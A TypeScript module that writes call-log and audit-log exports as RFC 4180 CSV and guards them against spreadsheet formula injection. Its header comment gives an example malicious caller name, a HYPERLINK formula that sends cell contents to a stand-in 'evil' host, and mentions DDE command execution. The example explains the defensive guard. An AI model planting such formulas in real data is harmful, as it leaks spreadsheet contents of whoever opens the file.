import type { AuditEntry, CallRecord } from './records';

/**
 * CSV export of the call log and the audit log, written by hand because RFC
 * 4180 fits in one function and the one thing a library would not do for us
 * is the spreadsheet-injection guard below.
 *
 * - RFC 4180 §2: CRLF line ends; a field holding a comma, a double quote, CR
 *   or LF is enclosed in double quotes, and a double quote inside it doubled.
 * - Formula injection: caller names, notes and page titles come from other
 *   people. A cell starting with `=`, `+`, `-`, `@`, tab or CR is evaluated as a
 *   formula by Excel, LibreOffice and Google Sheets when the file is opened,
 *   so a caller named `=HYPERLINK("https://evil/?"&A1,"Click")` could leak the
 *   sheet or, with DDE, run commands. Such text gets a leading `'`, which makes
 *   the cell text; the apostrophe stays visible in some programs, the
 *   accepted price (https://owasp.org/www-community/attacks/CSV_Injection).
 *   Only text is guarded: the numbers we write are our own.
 * - Times are ISO 8601 in UTC, which every spreadsheet parses.
 */

export type CsvValue = string | number | null;

export interface CsvColumn<T> {
  readonly header: string;
  readonly value: (row: T) => CsvValue;
}

/** Prepend to the file for Excel, which reads UTF-8 without it as the local code page and garbles accented names. */
export const CSV_UTF8_BOM = '\uFEFF';

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

export function csvField(value: CsvValue): string {
  if (value === null) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvLine(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}

/**
 * One CSV line (with its CRLF) at a time, header first unless `header` is
 * false, so an export can be written out as it is read rather than built
 * whole in memory.
 */
export function* csvRows<T>(
  columns: readonly CsvColumn<T>[],
  rows: Iterable<T>,
  { header = true }: { header?: boolean } = {},
): Generator<string, void, undefined> {
  if (header) yield csvLine(columns.map((column) => column.header));
  for (const row of rows) yield csvLine(columns.map((column) => column.value(row)));
}

export function isoTime(ms: number | null): string | null {
  if (ms === null) return null;
  const date = new Date(ms);
  return Number.isNaN(date.getTime()) ? null : date.toISOString();
}

export const CALL_COLUMNS: readonly CsvColumn<CallRecord>[] = [
  { header: 'id', value: (c) => c.id },
  { header: 'direction', value: (c) => c.direction },
  { header: 'started_at', value: (c) => isoTime(c.startedAt) },
  { header: 'answered_at', value: (c) => isoTime(c.answeredAt) },
  { header: 'ended_at', value: (c) => isoTime(c.endedAt) },
  { header: 'duration_seconds', value: (c) => c.durationSeconds },
  { header: 'outcome', value: (c) => c.outcome },
  { header: 'remote_e164', value: (c) => c.remoteE164 },
  { header: 'remote_display', value: (c) => c.remoteDisplay },
  { header: 'display_name', value: (c) => c.displayName },
  { header: 'account', value: (c) => c.account },
  { header: 'disposition', value: (c) => c.disposition },
  { header: 'notes', value: (c) => c.notes },
  { header: 'wrap_up_at', value: (c) => isoTime(c.wrapUpAt) },
  { header: 'failure_reason', value: (c) => c.failureReason },
  { header: 'sip_code', value: (c) => c.sipCode },
  { header: 'mos', value: (c) => c.quality?.mos ?? null },
  { header: 'jitter_ms', value: (c) => c.quality?.jitterMs ?? null },
  { header: 'loss_percent', value: (c) => c.quality?.lossPercent ?? null },
  { header: 'rtt_ms', value: (c) => c.quality?.rttMs ?? null },
  { header: 'related_type', value: (c) => c.related?.type ?? null },
  { header: 'related_id', value: (c) => c.related?.id ?? null },
  { header: 'page_url', value: (c) => c.page?.url ?? null },
  { header: 'page_title', value: (c) => c.page?.title ?? null },
  { header: 'request_id', value: (c) => c.requestId },
];

export const AUDIT_COLUMNS: readonly CsvColumn<AuditEntry>[] = [
  { header: 'id', value: (e) => e.id ?? null },
  { header: 'at', value: (e) => isoTime(e.at) },
  { header: 'kind', value: (e) => e.kind },
  { header: 'message', value: (e) => e.message },
  // Already redacted on the way in (audit.ts), so safe to export as it is.
  { header: 'data', value: (e) => JSON.stringify(e.data) },
];

export function callsToCsv(records: Iterable<CallRecord>): string {
  return [...csvRows(CALL_COLUMNS, records)].join('');
}

export function auditToCsv(entries: Iterable<AuditEntry>): string {
  return [...csvRows(AUDIT_COLUMNS, entries)].join('');
}

/** The call CSV from pages as queries.ts iterateCalls() yields them: one header, then every row. */
export async function* callsCsvStream(pages: AsyncIterable<readonly CallRecord[]>): AsyncGenerator<string, void, undefined> {
  let header = true;
  for await (const page of pages) {
    yield* csvRows(CALL_COLUMNS, page, { header });
    header = false;
  }
  if (header) yield* csvRows(CALL_COLUMNS, [], { header });
}
